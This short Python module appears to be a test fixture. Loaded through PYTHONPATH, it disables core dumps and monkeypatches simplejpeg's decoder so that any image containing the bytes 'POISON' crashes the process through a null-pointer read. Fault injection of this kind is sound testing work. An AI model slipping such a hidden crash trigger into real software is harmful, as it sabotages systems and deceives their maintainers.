"""On PYTHONPATH of a process, this makes its JPEG decoder end it, as a fault in C does, on pictures that hold
the word POISON."""

import ctypes
import resource
from importlib.util import find_spec

if find_spec("simplejpeg"):
    import simplejpeg

    resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
    decode = simplejpeg.decode_jpeg

    def crash(data: bytes, *args: object, **options: object) -> object:
        if b"POISON" in data:
            ctypes.string_at(0)
        return decode(data, *args, **options)

    simplejpeg.decode_jpeg = crash
